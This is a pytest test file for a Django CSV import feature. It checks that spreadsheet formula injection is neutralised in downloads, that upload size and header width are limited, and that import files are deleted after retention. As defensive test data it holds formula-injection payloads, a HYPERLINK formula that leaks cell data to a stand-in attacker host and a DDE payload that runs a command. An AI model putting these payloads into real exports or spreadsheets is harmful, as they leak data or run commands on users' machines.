"""Security of the import's files: no download runs a formula in a spreadsheet (the template,
the uploaded file), an upload over the limit is refused while it streams in and nothing of it is
stored, a header too wide for the mapping page is refused at upload, and import files are
deleted after the retention period while the job's history stays."""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import TemporaryFileUploadHandler
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from imports import csv_reader, tasks
from imports.csv_reader import CsvError, read_csv
from imports.models import ImportJob
from tests.conftest import console_sign_in
from tests.factories import RoleFactory
from tests.samples import load_world, sample_path

KB = 1024
TEMPLATE_CONTACT_ID = "0035e00000AbCdEfGhI"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def world(account):
    account.partner_licenses = 50
    account.customer_licenses = 50
    account.save()
    load_world(account)
    return account


def url(name, account, *args):
    return reverse(name, args=[account.slug, *args])


def csv_rows(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def stored_files(settings):
    media = Path(settings.MEDIA_ROOT)
    return sorted(path for path in media.rglob("*") if path.is_file()) if media.exists() else []


def post_file(client, account, name, data, **fields):
    upload = SimpleUploadedFile(name, data, content_type="text/csv")
    return client.post(url("import-new", account), {**fields, "file": upload})


def upload_sample(client, account, name):
    with sample_path(name).open("rb") as file:
        response = client.post(url("import-new", account), {"file": file, "user_type": "partner"})
    assert response.status_code == 302, response.content.decode()[:2000]
    return ImportJob.objects.filter(portal_account=account).latest("pk")


def run_sample(client, account, name, django_capture_on_commit_callbacks):
    job = upload_sample(client, account, name)
    client.post(url("import-map", account, job.pk), {"contact_id": "0", "role": "1"})
    client.get(url("import-review", account, job.pk))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url("import-start", account, job.pk))
    job.refresh_from_db()
    assert job.status == ImportJob.Status.DONE
    return job


# --- Hole 7: no download runs a formula ---


@pytest.mark.parametrize(
    "role_name",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        'Sales, "EMEA"\r\nPartners',
    ],
)
def test_the_template_keeps_a_role_name_in_one_cell_and_never_as_a_formula(
    technician_client, account, role_name
):
    RoleFactory(portal_account=account, name=role_name)

    response = technician_client.get(url("import-template", account))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    header, row = csv_rows(response.content)
    assert header == ["ContactId", "Role"]
    assert row[0] == TEMPLATE_CONTACT_ID
    assert row[1] in (role_name, "'" + role_name)  # its own cell, whatever it holds
    assert not row[1].startswith(("=", "+", "-", "@"))


def test_the_contacts_template_is_well_formed_csv(technician_client, account):
    response = technician_client.get(url("import-template", account), {"target": "contacts"})

    rows = csv_rows(response.content)
    assert rows[0] == ["ContactId", "SalesforceId", "Name", "Email", "Account"]
    assert [len(row) for row in rows] == [5, 5, 5]


def test_the_uploaded_file_downloads_byte_for_byte_as_text_no_spreadsheet_opens(
    technician_client, world
):
    original = sample_path("portal-users-formula.csv").read_bytes()
    job = upload_sample(technician_client, world, "portal-users-formula.csv")

    response = technician_client.get(url("import-download", world, job.pk, "source"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    filename = re.search(r'filename="([^"]+)"', disposition).group(1)
    assert filename == "portal-users-formula.csv.txt"
    assert b"".join(response.streaming_content) == original


def test_the_result_files_are_csv_with_formulas_neutralised(
    technician_client, world, django_capture_on_commit_callbacks
):
    job = run_sample(
        technician_client, world, "portal-users-formula.csv", django_capture_on_commit_callbacks
    )

    response = technician_client.get(url("import-download", world, job.pk, "failure"))

    assert response["Content-Type"] == "text/csv"
    cells = [cell for row in csv_rows(b"".join(response.streaming_content)) for cell in row]
    assert '\'=HYPERLINK("http://evil.example","x")' in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


# --- Hole 8a: an upload over the limit is refused while it streams in ---


@pytest.fixture
def temporary_upload_bytes(settings, monkeypatch):
    """How many bytes of uploads reached a temporary file on disk. Every upload would go there
    (no in-memory uploads), as any file over 2.5 MB does in production."""
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0
    written = []
    receive = TemporaryFileUploadHandler.receive_data_chunk

    def counting(self, raw_data, start):
        written.append(len(raw_data))
        return receive(self, raw_data, start)

    monkeypatch.setattr(TemporaryFileUploadHandler, "receive_data_chunk", counting)
    return written


def big_csv(size):
    rows = [b"ContactId,Role\r\n"]
    line = TEMPLATE_CONTACT_ID.encode() + b",Partner User\r\n"
    rows += [line] * (size // len(line) + 1)
    return b"".join(rows)[:size]


def test_an_upload_declared_over_the_limit_never_reaches_the_disk(
    technician_client, account, settings, temporary_upload_bytes
):
    settings.IMPORT_MAX_BYTES = 64 * KB

    response = post_file(
        technician_client, account, "huge.csv", big_csv(400 * KB), user_type="partner"
    )

    assert response.status_code == 400
    page = response.content.decode()
    assert "The file is larger than the limit of 64 KB. Split it into smaller files." in page
    assert temporary_upload_bytes == []
    assert not ImportJob.objects.exists()
    assert stored_files(settings) == []


def test_a_file_that_streams_past_the_limit_is_cut_off_at_the_limit(
    technician_client, account, settings, temporary_upload_bytes
):
    settings.IMPORT_MAX_BYTES = 256 * KB  # the body is within limit + form allowance

    response = post_file(
        technician_client, account, "big.csv", big_csv(300 * KB), user_type="partner"
    )

    assert response.status_code == 400
    assert "larger than the limit of 256 KB" in response.content.decode()
    assert sum(temporary_upload_bytes) <= settings.IMPORT_MAX_BYTES
    assert not ImportJob.objects.exists()
    assert stored_files(settings) == []


def test_a_file_at_the_limit_is_still_accepted(technician_client, account, settings):
    settings.IMPORT_MAX_BYTES = 128 * KB

    response = post_file(
        technician_client, account, "fits.csv", big_csv(128 * KB), user_type="partner"
    )

    assert response.status_code == 302
    assert ImportJob.objects.get().source_file.size == 128 * KB


@pytest.fixture
def csrf_client(technician):
    return console_sign_in(Client(enforce_csrf_checks=True), technician)


def test_the_refusal_is_a_page_with_the_form_not_a_csrf_failure(
    csrf_client, account, settings, temporary_upload_bytes
):
    settings.IMPORT_MAX_BYTES = 64 * KB
    form_page = csrf_client.get(url("import-new", account))
    token = form_page.cookies["csrftoken"].value

    response = post_file(
        csrf_client,
        account,
        "huge.csv",
        big_csv(400 * KB),
        csrfmiddlewaretoken=token,
        target="contacts",
    )

    assert response.status_code == 400
    page = response.content.decode()
    assert "larger than the limit of 64 KB" in page
    assert re.search(r'<option value="contacts" selected>', page)  # what they picked stays
    assert temporary_upload_bytes == []


def test_the_upload_still_needs_its_csrf_token(csrf_client, account):
    response = post_file(csrf_client, account, "fits.csv", big_csv(4 * KB), user_type="partner")

    assert response.status_code == 403
    assert not ImportJob.objects.exists()


def test_a_signed_out_upload_goes_to_sign_in_and_stores_nothing(client, account, settings):
    response = post_file(client, account, "fits.csv", big_csv(4 * KB), user_type="partner")

    assert response.status_code == 302
    assert "/sign-in/" in response["Location"]
    assert not ImportJob.objects.exists()
    assert stored_files(settings) == []


# --- Hole 8b: a header too wide for the mapping page ---


def wide_csv(columns):
    header = ["ContactId", "Role", *(f"Extra {index}" for index in range(columns - 2))]
    return (",".join(header) + "\r\n" + TEMPLATE_CONTACT_ID + ",Partner User\r\n").encode()


def test_a_header_wider_than_the_limit_is_refused_at_upload(technician_client, account):
    response = post_file(
        technician_client, account, "wide.csv", wide_csv(5_000), user_type="partner"
    )

    assert response.status_code == 400
    page = response.content.decode()
    assert "The header row has 5,000 columns; the limit is 200." in page
    assert "Delete the columns the import does not read" in page
    assert not ImportJob.objects.exists()


def test_a_header_at_the_limit_maps(technician_client, account):
    response = post_file(technician_client, account, "ok.csv", wide_csv(200), user_type="partner")

    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert technician_client.get(url("import-map", account, job.pk)).status_code == 200


def test_the_mapping_page_of_a_wide_file_uploaded_earlier_is_a_short_message(
    technician_client, account, settings
):
    settings.IMPORT_MAX_COLUMNS = 10_000  # as before the limit existed
    post_file(technician_client, account, "wide.csv", wide_csv(5_000), user_type="partner")
    job = ImportJob.objects.get()
    settings.IMPORT_MAX_COLUMNS = 200

    response = technician_client.get(url("import-map", account, job.pk))

    assert response.status_code == 400
    assert "The header row has 5,000 columns; the limit is 200." in response.content.decode()
    assert len(response.content) < 100 * KB


def test_the_reader_refuses_a_row_spread_over_endless_quoted_lines(monkeypatch):
    monkeypatch.setattr(csv_reader, "MAX_RECORD_CHARS", 10_000)
    endless = b'"a\n",' * 5_000  # each cell and each line is tiny; the row is not
    data = b"ContactId,Role\r\n" + TEMPLATE_CONTACT_ID.encode() + b",x\r\n" + endless + b"\r\n"

    csv_file = read_csv(io.BytesIO(data), max_bytes=10 * 1024 * KB)
    with pytest.raises(CsvError) as refused:
        list(csv_file.rows())

    assert refused.value.line == 3
    assert "The row starting on line 3 is longer than 10,000 characters" in refused.value.message


def test_the_reader_refuses_a_header_spread_over_endless_quoted_lines(monkeypatch):
    monkeypatch.setattr(csv_reader, "MAX_RECORD_CHARS", 10_000)
    data = b'"a\n",' * 5_000 + b"\r\n" + TEMPLATE_CONTACT_ID.encode() + b",x\r\n"

    with pytest.raises(CsvError, match="The row starting on line 1 is longer"):
        read_csv(io.BytesIO(data), max_bytes=10 * 1024 * KB)


# --- Hole 8c: files are deleted after the retention period ---


def age(job, days):
    then = timezone.now() - timedelta(days=days)
    ImportJob.objects.filter(pk=job.pk).update(created_at=then, finished_at=then)


def job_files(job):
    job.refresh_from_db()
    names = [job.source_file.name, job.success_file.name, job.failure_file.name]
    return [Path(job.source_file.storage.path(name)) for name in names if name]


def test_files_are_deleted_after_the_retention_period_and_the_history_stays(
    technician_client, world, settings, django_capture_on_commit_callbacks
):
    job = run_sample(
        technician_client, world, "portal-users-mixed.csv", django_capture_on_commit_callbacks
    )
    counts = (job.created, job.failed, job.total_rows)
    files = job_files(job)
    assert len(files) == 3
    assert all(path.exists() for path in files)
    detail_before = technician_client.get(url("import-detail", world, job.pk)).content.decode()
    assert "Role not found" in detail_before
    age(job, days=91)

    assert tasks.delete_expired_import_files() == 1

    assert not any(path.exists() for path in files)
    job.refresh_from_db()
    assert (job.status, job.created, job.failed, job.total_rows) == (
        ImportJob.Status.DONE,
        *counts,
    )
    detail = technician_client.get(url("import-detail", world, job.pk)).content.decode()
    assert "were deleted on" in detail
    assert "import files are kept for 90 days" in detail
    assert "Role not found" in detail  # the failures per reason outlive the failure file
    assert url("import-download", world, job.pk, "source") not in detail
    assert url("import-download", world, job.pk, "failure") not in detail
    history = technician_client.get(url("import-list", world)).content.decode()
    assert "Files deleted" in history
    assert url("import-download", world, job.pk, "success") not in history
    for which in ("source", "success", "failure"):
        response = technician_client.get(url("import-download", world, job.pk, which))
        assert response.status_code == 410
        assert "kept for 90 days" in response.content.decode()

    assert tasks.delete_expired_import_files() == 0  # idempotent: nothing left to do


def test_recent_and_running_imports_keep_their_files(
    technician_client, world, settings, django_capture_on_commit_callbacks
):
    settings.IMPORT_FILE_RETENTION_DAYS = 30
    recent = run_sample(
        technician_client, world, "portal-users-template.csv", django_capture_on_commit_callbacks
    )
    age(recent, days=29)
    running = upload_sample(technician_client, world, "portal-users-template.csv")
    ImportJob.objects.filter(pk=running.pk).update(status=ImportJob.Status.RUNNING)
    age(running, days=400)
    kept = job_files(recent) + job_files(running)

    assert tasks.delete_expired_import_files() == 0

    assert all(path.exists() for path in kept)


def test_an_upload_never_started_past_retention_cannot_be_continued(
    technician_client, world, settings
):
    job = upload_sample(technician_client, world, "portal-users-template.csv")
    files = job_files(job)
    ImportJob.objects.filter(pk=job.pk).update(
        created_at=timezone.now() - timedelta(days=91), status=ImportJob.Status.MAPPED
    )

    assert tasks.delete_expired_import_files() == 1

    assert not any(path.exists() for path in files)
    detail_url = url("import-detail", world, job.pk)
    for name in ("import-map", "import-review"):
        response = technician_client.get(url(name, world, job.pk))
        assert (response.status_code, response["Location"]) == (302, detail_url)
    detail = technician_client.get(detail_url).content.decode()
    assert "were deleted on" in detail
    assert "Continue" not in detail
    technician_client.post(url("import-start", world, job.pk))
    job.refresh_from_db()
    assert job.status == ImportJob.Status.MAPPED


def test_the_retention_sweep_is_on_the_beat_schedule(settings):
    scheduled = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert tasks.delete_expired_import_files.name in scheduled
